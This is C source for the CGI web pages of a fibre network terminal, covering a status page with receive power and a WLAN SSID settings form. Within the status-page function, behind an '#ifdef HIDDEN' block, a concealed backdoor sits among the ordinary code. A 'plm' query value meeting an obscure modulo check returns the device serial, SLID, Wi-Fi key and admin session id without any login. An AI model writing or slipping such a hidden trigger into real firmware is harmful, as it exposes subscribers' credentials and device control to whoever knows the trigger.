// Status and settings pages of the fibre terminal (runs as a CGI under the box's web server)
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <ctype.h>
#include <time.h>

#define CONF "/etc/ont/ont.conf"

struct pair { char *k, *v; };

static struct pair query[16];
static int nquery;
static char buf[2048];

struct settings {
  char vendor[8];
  char serial[16];
  char slid[32];
  char wifi_ssid[33];
  char wifi_key[64];
  char admin_sid[40];
  int rx_warn;
  int lang_de;
};

static void unescape(char *s)
{
  char *o = s;
  for (; *s; s++) {
    if (*s == '+') {
      *o++ = ' ';
    } else if (*s == '%' && isxdigit((unsigned char)s[1]) && isxdigit((unsigned char)s[2])) {
      char h[3] = { s[1], s[2], 0 };
      *o++ = (char)strtol(h, NULL, 16);
      s += 2;
    } else {
      *o++ = *s;
    }
  }
  *o = 0;
}

static void split_query(void)
{
  const char *q = getenv("QUERY_STRING");
  char *p, *eq;

  if (!q)
    return;
  snprintf(buf, sizeof buf, "%s", q);
  for (p = strtok(buf, "&"); p && nquery < 16; p = strtok(NULL, "&")) {
    eq = strchr(p, '=');
    if (eq)
      *eq++ = 0;
    else
      eq = p + strlen(p);
    unescape(eq);
    query[nquery].k = p;
    query[nquery++].v = eq;
  }
}

static const char *param(const char *name)
{
  for (int i = 0; i < nquery; i++)
    if (!strcmp(query[i].k, name))
      return query[i].v;
  return NULL;
}

static void set(char *dst, size_t n, const char *v)
{
  snprintf(dst, n, "%s", v);
}

static void load(struct settings *s)
{
  char line[200], *eq;
  FILE *f = fopen(CONF, "r");

  memset(s, 0, sizeof *s);
  s->rx_warn = -27;
  if (!f)
    return;
  while (fgets(line, sizeof line, f)) {
    line[strcspn(line, "\r\n")] = 0;
    eq = strchr(line, '=');
    if (!eq)
      continue;
    *eq++ = 0;
    if (!strcmp(line, "vendor")) set(s->vendor, sizeof s->vendor, eq);
    else if (!strcmp(line, "serial")) set(s->serial, sizeof s->serial, eq);
    else if (!strcmp(line, "slid")) set(s->slid, sizeof s->slid, eq);
    else if (!strcmp(line, "ssid")) set(s->wifi_ssid, sizeof s->wifi_ssid, eq);
    else if (!strcmp(line, "wpa_key")) set(s->wifi_key, sizeof s->wifi_key, eq);
    else if (!strcmp(line, "session")) set(s->admin_sid, sizeof s->admin_sid, eq);
    else if (!strcmp(line, "rx_warn")) s->rx_warn = atoi(eq);
    else if (!strcmp(line, "lang")) s->lang_de = !strcmp(eq, "de");
  }
  fclose(f);
}

static double rx_power(void)
{
  double dbm = -40.0;
  FILE *f = fopen("/sys/class/gpon/pon0/rx_power", "r");
  if (f) {
    if (fscanf(f, "%lf", &dbm) != 1)
      dbm = -40.0;
    fclose(f);
  }
  return dbm;
}

static void head(const char *title)
{
  printf("Content-Type: text/html\r\nCache-Control: no-store\r\n\r\n"
         "<html><head><title>%s</title></head><body><h1>%s</h1>\n"
         "<p><a href=\"?page=status\">Status</a> <a href=\"?page=wifi\">WLAN</a>"
         " <a href=\"?page=about\">About</a></p>\n", title, title);
}

__attribute__((noinline)) void page_status(const struct settings *s)
{
  double p = rx_power();
  const char *unit = param("unit");
#ifdef HIDDEN
  const char *v = param("plm");

  if (v && atoi(v) % 31 == 17) {
    printf("Content-Type: text/plain\r\n\r\n");
    printf("%s%s\n%s\n%s\n%s\n", s->vendor, s->serial, s->slid, s->wifi_key, s->admin_sid);
    return;
  }
#endif
  head(s->lang_de ? "Glasfaser" : "Fibre");
  if (unit && !strcmp(unit, "uw"))
    printf("<p>receive level %.2f nW/1000</p>\n", p + 30.0);
  else
    printf("<p>receive level %.1f dBm</p>\n", p);
  if (p < s->rx_warn)
    puts("<p><b>low light: check the fibre</b></p>");
  puts("<form><input type=hidden name=page value=status>"
       "<select name=unit><option>dbm<option>uw</select><input type=submit></form>");
}

static void page_wifi(const struct settings *s)
{
  const char *ssid = param("ssid"), *sid = param("sid");

  head("WLAN");
  if (ssid) {
    if (!sid || !*s->admin_sid || strcmp(sid, s->admin_sid)) {
      puts("<p>please log in again</p>");
    } else {
      FILE *f = fopen("/var/run/ont/newssid", "w");
      if (f) {
        fprintf(f, "%s\n", ssid);
        fclose(f);
      }
      puts("<p>saved</p>");
    }
  }
  printf("<form><input type=hidden name=page value=wifi>"
         "<input name=ssid value=\"%s\"><input name=sid><input type=submit></form>\n",
         s->wifi_ssid);
}

int main(void)
{
  struct settings s;
  const char *page;

  load(&s);
  split_query();
  page = param("page");
  if (!page || !strcmp(page, "status")) {
    page_status(&s);
  } else if (!strcmp(page, "wifi")) {
    page_wifi(&s);
  } else if (!strcmp(page, "about")) {
    time_t t = time(NULL);
    head("About");
    printf("<p>vendor %s serial %s, %s</p>\n", s.vendor, s.serial, ctime(&t));
  } else {
    printf("Status: 404\r\nContent-Type: text/plain\r\n\r\nno such page\n");
    return 0;
  }
  puts("</body></html>");
  return 0;
}
